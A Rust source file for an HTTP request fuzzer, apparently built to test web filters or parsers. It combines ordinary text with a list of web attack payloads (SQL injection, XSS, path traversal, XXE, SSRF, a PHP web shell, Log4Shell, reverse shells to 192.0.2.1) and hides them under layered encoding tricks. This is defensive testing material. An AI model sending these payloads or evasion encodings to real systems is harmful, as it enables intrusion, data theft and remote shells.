//! Requests that nobody thought of: pieces of attacks and of ordinary text, disguised in layers, put where applications look.
//!
//! Never a clock and never the system's randomness: a seed is a sequence of requests, the same on every machine.

use crate::Message;

/// A source of requests.
#[derive(Debug, Clone)]
pub struct Generator {
    state: u64,
}

impl Generator {
    /// The requests of a seed.
    #[must_use]
    pub const fn new(seed: u64) -> Self {
        Self { state: seed }
    }

    /// The next request.
    pub fn message(&mut self) -> Message {
        let mut message = self.head();
        match self.below(8) {
            0..=2 => {}
            3..=4 => {
                let kind = self.pick(FORM_TYPES);
                let pairs = self.pairs();
                self.body(&mut message, kind, pairs);
            }
            5 => {
                let kind = self.pick(JSON_TYPES);
                let json = self.json(0);
                let json = self.now_and_then(json, 12, Self::spoil);
                self.body(&mut message, kind, json);
            }
            6 => {
                let (kind, parts) = self.multipart();
                let parts = self.now_and_then(parts, 12, Self::spoil);
                self.body(&mut message, &kind, parts);
            }
            _ => {
                let kind = self.pick(XML_TYPES);
                let xml = self.xml();
                let xml = self.now_and_then(xml, 12, Self::spoil);
                self.body(&mut message, kind, xml);
            }
        }
        message
    }

    fn head(&mut self) -> Message {
        let mut target = b"/".to_vec();
        for _ in 0..self.below(3) {
            let segment = self.value();
            // A target has no bytes that would end it: what has is escaped.
            target.extend(plain(&segment, b" \r\n\0\t?#"));
            target.push(b'/');
        }
        if self.below(3) == 0 {
            target.extend_from_slice(self.pick(NAMES_OF_FILES).as_bytes());
        }
        if self.below(3) > 0 {
            target.push(b'?');
            let pairs = self.pairs();
            target.extend(plain(&pairs, b" \r\n\0\t#"));
        }
        let mut message = Message::get("/");
        message.target = target;
        for (name, value) in [("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")] {
            message.fields.push((name.as_bytes().to_vec(), value.as_bytes().to_vec()));
        }
        for _ in 0..self.below(3) {
            let name = self.pick(FIELDS);
            let value = if name == "Cookie" { self.cookies() } else { self.value() };
            let value: Vec<u8> = value.into_iter().filter(|byte| !matches!(byte, b'\r' | b'\n' | 0)).collect();
            message.fields.push((name.as_bytes().to_vec(), value.trim_ascii().to_vec()));
        }
        message
    }

    fn body(&mut self, message: &mut Message, kind: &str, body: Vec<u8>) {
        message.method = self.pick(&["POST", "POST", "POST", "PUT", "PATCH"]).as_bytes().to_vec();
        let length = body.len().to_string();
        message.fields.push((b"Content-Type".to_vec(), kind.as_bytes().to_vec()));
        message.fields.push((b"Content-Length".to_vec(), length.into_bytes()));
        message.body = body;
    }

    /// `a=1&b=2`, with what makes readers of it differ: names twice, names that are empty, no `=`, other separators.
    fn pairs(&mut self) -> Vec<u8> {
        let mut pairs = Vec::new();
        let mut known: Vec<&str> = Vec::new();
        for at in 0..self.below(5) + 1 {
            if at > 0 {
                let between = self.pick(&["&", "&", "&", "&", "&&", ";", "&amp;"]);
                pairs.extend_from_slice(between.as_bytes());
            }
            let repeats = !known.is_empty() && self.below(4) == 0;
            let name = if repeats { known[0] } else { self.pick(NAMES) };
            known.push(name);
            pairs.extend_from_slice(name.as_bytes());
            if self.below(12) == 0 {
                continue;
            }
            pairs.push(b'=');
            let value = self.value();
            // Mostly as a browser would write it; as it is, now and then.
            if self.below(5) == 0 {
                pairs.extend(plain(&value, b"&"));
            } else {
                pairs.extend(self.percent(&value, 8));
            }
        }
        pairs
    }

    fn cookies(&mut self) -> Vec<u8> {
        let mut text = Vec::new();
        for at in 0..self.below(4) + 1 {
            if at > 0 {
                text.extend_from_slice(self.pick(&["; ", "; ", ";", " ;", ";;", ", "]).as_bytes());
            }
            text.extend_from_slice(self.pick(&["session", "theme", "a", "$Version", "", "__Host-id", "a"]).as_bytes());
            if self.below(10) > 0 {
                text.push(b'=');
            }
            let quote = self.below(8) == 0;
            let value = self.value();
            if quote {
                text.push(b'"');
            }
            text.extend(if self.below(2) == 0 { self.percent(&value, 4) } else { plain(&value, b";") });
            if quote {
                text.push(b'"');
            }
        }
        text
    }

    fn json(&mut self, depth: usize) -> Vec<u8> {
        let mut text = Vec::new();
        match self.below(if depth > 3 { 3 } else { 6 }) {
            0 => text.extend_from_slice(self.pick(&["1", "-0.5e3", "true", "null", "12345678901234567890"]).as_bytes()),
            1 | 2 => text = self.json_string(),
            3 | 4 => {
                text.push(b'{');
                for at in 0..self.below(4) + usize::from(depth == 0) {
                    if at > 0 {
                        text.push(b',');
                    }
                    text.extend(if self.below(3) == 0 { self.json_string() } else { quoted(self.pick(NAMES)) });
                    text.push(b':');
                    text.extend(self.json(depth + 1));
                }
                text.push(b'}');
            }
            _ => {
                text.push(b'[');
                for at in 0..self.below(4) {
                    if at > 0 {
                        text.extend_from_slice(b", ");
                    }
                    text.extend(self.json(depth + 1));
                }
                text.push(b']');
            }
        }
        text
    }

    fn json_string(&mut self) -> Vec<u8> {
        let value = self.value();
        let mut text = vec![b'"'];
        for character in String::from_utf8_lossy(&value).chars() {
            let escape = self.below(10) == 0;
            match character {
                '"' | '\\' => text.extend([b'\\', character as u8]),
                '\n' => text.extend_from_slice(b"\\n"),
                _ if escape || character < ' ' => {
                    for unit in character.encode_utf16(&mut [0; 2]) {
                        text.extend_from_slice(format!("\\u{unit:04x}").as_bytes());
                    }
                }
                _ => text.extend_from_slice(character.encode_utf8(&mut [0; 4]).as_bytes()),
            }
        }
        text.push(b'"');
        text
    }

    /// The content type and the body.
    fn multipart(&mut self) -> (String, Vec<u8>) {
        let boundary = self.pick(&["b", "----WebKitFormBoundary7MA4YWxkTrZu0gW", "a'b", "x-y_z"]);
        let kind = match self.below(8) {
            0 => format!("multipart/form-data; boundary=\"{boundary}\""),
            1 => format!("multipart/form-data; charset=utf-8; boundary={boundary}"),
            2 => format!("Multipart/Form-Data;boundary={boundary}"),
            _ => format!("multipart/form-data; boundary={boundary}"),
        };
        let mut body = Vec::new();
        for _ in 0..self.below(4) + 1 {
            body.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
            let name = self.pick(NAMES);
            let quote = self.pick(&["\"", "\"", "\"", "\"", "\"", "'", ""]);
            body.extend_from_slice(
                format!("{}: form-data; name={quote}{name}{quote}", self.pick(DISPOSITIONS)).as_bytes(),
            );
            if self.below(3) == 0 {
                let value: Vec<u8> =
                    self.value().into_iter().filter(|byte| !matches!(byte, b'\r' | b'\n' | b'"' | 0)).collect();
                body.extend_from_slice(
                    self.pick(&["; filename=\"", "; filename=\"", "; filename=\"a.php\"; filename=\""]).as_bytes(),
                );
                body.extend_from_slice(&value);
                body.extend_from_slice(b"\"\r\nContent-Type: ");
                body.extend_from_slice(
                    self.pick(&["text/plain", "image/png", "application/x-php", "text/plain; charset=utf-7"])
                        .as_bytes(),
                );
            }
            if self.below(10) == 0 {
                body.extend_from_slice(self.pick(PART_FIELDS).as_bytes());
            }
            body.extend_from_slice(b"\r\n\r\n");
            body.extend(self.value());
            body.extend_from_slice(b"\r\n");
        }
        if self.below(12) > 0 {
            body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
        }
        (kind, body)
    }

    fn xml(&mut self) -> Vec<u8> {
        let mut text = Vec::new();
        if self.below(2) == 0 {
            text.extend_from_slice(b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
        }
        text.extend_from_slice(b"<doc>");
        for _ in 0..self.below(4) {
            let name = self.pick(&["a", "b", "name", "ns:item"]).replace("ns:", "");
            let value = self.value();
            let value = escaped(&String::from_utf8_lossy(&value));
            text.extend_from_slice(format!("<{name}").as_bytes());
            if self.below(3) == 0 {
                let attribute = self.value();
                let attribute = escaped(&String::from_utf8_lossy(&attribute));
                text.extend_from_slice(format!(" id=\"{attribute}\"").as_bytes());
            }
            match self.below(6) {
                0 => text.extend_from_slice(format!("><![CDATA[{}]]></{name}>", value.replace("]]>", "")).as_bytes()),
                1 => text.extend_from_slice(format!("><!-- {} --></{name}>", value.replace('-', "")).as_bytes()),
                _ => text.extend_from_slice(format!(">{value}</{name}>").as_bytes()),
            }
        }
        text.extend_from_slice(b"</doc>");
        text
    }

    /// A piece or several, disguised.
    fn value(&mut self) -> Vec<u8> {
        let mut value = Vec::new();
        for _ in 0..[1, 1, 1, 2, 3][self.below(5)] {
            let list = [ORDINARY, ATTACKS, ATTACKS, TOKENS][self.below(4)];
            value.extend_from_slice(self.pick(list).as_bytes());
            if self.below(3) == 0 {
                value.extend_from_slice(self.pick(TOKENS).as_bytes());
            }
        }
        for _ in 0..[0, 0, 1, 1, 2, 3][self.below(6)] {
            value = self.disguise(value);
        }
        value.truncate(2000);
        value
    }

    fn disguise(&mut self, value: Vec<u8>) -> Vec<u8> {
        match self.below(14) {
            0 | 1 => self.percent(&value, 3),
            2 => self.each(&value, 4, |byte| format!("%u{byte:04x}").into_bytes()),
            3 => self.each(&value, 4, |byte| format!("&#{byte};").into_bytes()),
            4 => self.each(&value, 4, |byte| format!("&#x{byte:x};").into_bytes()),
            5 => self.each(&value, 4, |byte| format!("\\x{byte:02x}").into_bytes()),
            6 => self.each(&value, 4, |byte| format!("\\u{byte:04x}").into_bytes()),
            7 => self.each(&value, 3, |byte| if byte.is_ascii_alphabetic() { vec![byte ^ 0x20] } else { vec![byte] }),
            8 => {
                let space =
                    self.pick(&["/**/", "\t", "\n", "\u{b}", "\u{c}", "+", "\u{a0}", "%20", "/*x*/", "--\n", "  "]);
                value.split(|byte| *byte == b' ').collect::<Vec<_>>().join(space.as_bytes())
            }
            9 => {
                let between = self.pick(&["\0", "/**/", "\\", "'", "^", "\u{ad}"]);
                self.insert(value, between.as_bytes())
            }
            // Full-width forms and the longest way of writing a byte in what was UTF-8.
            10 => self.each(&value, 4, |byte| match byte {
                b'!'..=b'~' => {
                    char::from_u32(0xff01 + u32::from(byte - b'!')).map_or(vec![byte], |it| it.to_string().into_bytes())
                }
                _ => vec![byte],
            }),
            11 => self.each(&value, 6, |byte| vec![0xc0 | byte >> 6, 0x80 | byte & 0x3f]),
            12 => {
                let byte = [0x80, 0xe9, 0xff, 0xbf][self.below(4)];
                self.insert(value, &[byte])
            }
            _ => base64(&value),
        }
    }

    /// Percent-encodes what a form must, and one in `some` of the rest; now and then in a way that is none.
    fn percent(&mut self, value: &[u8], some: usize) -> Vec<u8> {
        let mut text = Vec::new();
        for byte in value {
            let needs = !byte.is_ascii_alphanumeric() && !b"-_.~".contains(byte);
            if !needs && self.below(some) > 0 {
                text.push(*byte);
            } else if self.below(60) == 0 {
                text.extend_from_slice(self.pick(&["%", "%4", "%zz", "%%", "%u00", "%25"]).as_bytes());
            } else if self.below(2) == 0 {
                text.extend_from_slice(format!("%{byte:02x}").as_bytes());
            } else {
                text.extend_from_slice(format!("%{byte:02X}").as_bytes());
            }
        }
        text
    }

    fn each(&mut self, value: &[u8], some: usize, form: impl Fn(u8) -> Vec<u8>) -> Vec<u8> {
        let mut text = Vec::new();
        for byte in value {
            if byte.is_ascii() && self.below(some) == 0 {
                text.extend(form(*byte));
            } else {
                text.push(*byte);
            }
        }
        text
    }

    fn insert(&mut self, mut value: Vec<u8>, what: &[u8]) -> Vec<u8> {
        let at = self.below(value.len() + 1);
        value.splice(at..at, what.iter().copied());
        value
    }

    /// Breaks a body: a byte more, a byte less, another byte, or it ends early.
    fn spoil(&mut self, mut body: Vec<u8>) -> Vec<u8> {
        let at = self.below(body.len() + 1);
        match self.below(4) {
            0 => body.truncate(at),
            1 => drop(body.splice(at..(at + 1).min(body.len()), [])),
            2 => {
                const ODD: &[u8] = b"\0\n\r\"{},:<>;=-";
                body.insert(at, ODD[self.below(ODD.len())]);
            }
            _ => body.extend_from_slice(b"\r\nmore"),
        }
        body
    }

    fn now_and_then(
        &mut self,
        value: Vec<u8>,
        one_in: usize,
        change: impl Fn(&mut Self, Vec<u8>) -> Vec<u8>,
    ) -> Vec<u8> {
        if self.below(one_in) == 0 { change(self, value) } else { value }
    }

    fn pick<'a>(&mut self, list: &[&'a str]) -> &'a str {
        list.get(self.below(list.len())).copied().unwrap_or_default()
    }

    /// splitmix64.
    fn below(&mut self, bound: usize) -> usize {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((z ^ (z >> 31)) % bound.max(1) as u64) as usize
    }
}

/// As it is, but for bytes that would end it.
fn plain(value: &[u8], ends: &[u8]) -> Vec<u8> {
    let mut text = Vec::new();
    for byte in value {
        if ends.contains(byte) {
            text.extend_from_slice(format!("%{byte:02x}").as_bytes());
        } else {
            text.push(*byte);
        }
    }
    text
}

fn quoted(name: &str) -> Vec<u8> {
    format!("\"{}\"", name.replace('"', "")).into_bytes()
}

fn escaped(text: &str) -> String {
    let kept: String = text.chars().filter(|character| *character >= ' ' || matches!(character, '\n' | '\t')).collect();
    kept.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;")
}

fn base64(value: &[u8]) -> Vec<u8> {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = Vec::new();
    for three in value.chunks(3) {
        let bits = three.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        for digit in 0..4 {
            let at = (bits >> (18 - 6 * digit) & 63) as usize;
            text.push(if digit <= three.len() { DIGITS[at] } else { b'=' });
        }
    }
    text
}

const NAMES: &[&str] = &[
    "a",
    "id",
    "q",
    "name",
    "page",
    "url",
    "file",
    "x[]",
    "user[name]",
    "a.b",
    "_method",
    "json",
    "",
    "cmd",
    "%61",
    "a%00b",
    "é",
];
const NAMES_OF_FILES: &[&str] = &[
    "index.php",
    "a.aspx",
    "web.config",
    ".env",
    "backup.sql",
    "x.jsp",
    "img.png",
    "a.b.c",
    "%2e%2e",
    "..",
    "wp-login.php",
];
const FIELDS: &[&str] = &[
    "Cookie",
    "Cookie",
    "Referer",
    "X-Forwarded-For",
    "X-Custom",
    "Accept-Language",
    "Range",
    "Origin",
    "X-Api-Version",
];
const FORM_TYPES: &[&str] = &[
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-8",
    "application/x-www-form-urlencoded;charset=utf-7",
    "Application/X-WWW-Form-Urlencoded",
    "text/plain",
];
const JSON_TYPES: &[&str] = &[
    "application/json",
    "application/json",
    "application/json; charset=utf-8",
    "application/vnd.api+json",
    "APPLICATION/JSON",
];
const XML_TYPES: &[&str] = &["application/xml", "text/xml", "application/soap+xml; charset=utf-8"];
const DISPOSITIONS: &[&str] =
    &["Content-Disposition", "Content-Disposition", "Content-Disposition", "content-disposition"];
const PART_FIELDS: &[&str] = &[
    "\r\nContent-Transfer-Encoding: base64",
    "\r\nX-Other: a",
    "\r\nContent-Disposition: form-data; name=\"twice\"",
    "\r\nContent-Type: text/html\r\n folded",
    "; name=\"again\"",
    "; filename*=utf-8''a.php",
];
const ORDINARY: &[&str] = &[
    "hello",
    "Anne O'Neill",
    "1 < 2 and 3 > 2",
    "the union will select a chair",
    "2026-11-22T10:00:00Z",
    "https://www.example.org/a?b=c&d=e",
    "anne@example.org",
    "50% off; today only!",
    "{\"a\": [1, 2]}",
    "<b>bold</b>",
    "work\\temp\\a.txt",
    "日本語のテキスト",
    "naïve café",
    "a & b",
    "-- signed, Tom",
    "price = 10 * (2 + 3)",
    "f47ac10b-58cc-4372-a567-0e02b2c3d479",
    "/var/www/html",
    "",
];
const ATTACKS: &[&str] = &[
    "1' or '1'='1",
    "1 union select user,password from users-- -",
    "1; drop table users",
    "' and sleep(5)#",
    "admin'--",
    "1 order by 10",
    "(select count(*) from information_schema.tables)",
    "0x3c736372697074",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<svg/onload=confirm(1)>",
    "\"><iframe src=//evil.example>",
    "expression(alert(1))",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/shadow",
    "php://filter/convert.base64-encode/resource=index.php",
    "; cat /etc/passwd",
    "| nc -e /bin/sh 192.0.2.1 4444",
    "$(wget http://192.0.2.1/x)",
    "`id`",
    "&& ping -c 1 192.0.2.1",
    "cmd.exe /c dir",
    "powershell -enc AAAA",
    "<?php system($_GET['c']); ?>",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "${jndi:ldap://192.0.2.1/a}",
    "{{7*7}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "java.lang.Runtime.getRuntime().exec",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:22/",
    "%0d%0aSet-Cookie: a=b",
    "*)(uid=*))(|(uid=*",
    "' or count(parent::*)=1 or 'a'='b",
    "{\"$ne\": null}",
    "__proto__[admin]=1",
    "process.mainModule.require('child_process')",
    "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
    "<!--#exec cmd=\"ls\"-->",
    "/bin/bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
    "\\u003cscript\\u003e",
    "waitfor delay '0:0:5'",
    "1 and 1=1",
    "';exec xp_cmdshell 'dir'--",
    "eval(base64_decode('x'))",
    "phpinfo()",
    "sqlmap/1.0",
];
const TOKENS: &[&str] = &[
    "'", "\"", "`", "(", ")", "<", ">", ";", "|", "&", "=", "--", "#", "/*", "*/", "\\", "%", "%25", "%u0027", "&lt;",
    "&#60;", "\0", "\r\n", "\n", "\t", "/", "..", "${", "}", "{{", "}}", "$", "@", "or", "and", "union", "select",
    "from", "0x41", "1e0", "a.b", ":", ",", "[", "]", "~", "^", "!", "+", "é", "‘", "＜", "\u{feff}",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_seed_is_a_sequence_and_another_is_another() {
        let take = |seed| {
            let mut generator = Generator::new(seed);
            (0..5_000).map(|_| generator.message()).collect::<Vec<_>>()
        };
        assert_eq!(take(7), take(7));
        assert_ne!(take(7), take(8));
        let all = take(1);
        assert!(all.iter().any(|one| one.body.is_empty()) && all.iter().any(|one| !one.body.is_empty()));
        for one in all {
            assert!(!one.target.iter().any(|byte| b" \r\n\0".contains(byte)), "a request line has three words");
            assert!(one.fields.iter().all(|(_, value)| !value.iter().any(|byte| b"\r\n\0".contains(byte))));
        }
    }

    #[test]
    fn base64_is_base64() {
        for (plain, text) in [("", ""), ("f", "Zg=="), ("fo", "Zm8="), ("foo", "Zm9v"), ("foobar", "Zm9vYmFy")] {
            assert_eq!(base64(plain.as_bytes()), text.as_bytes());
        }
    }
}
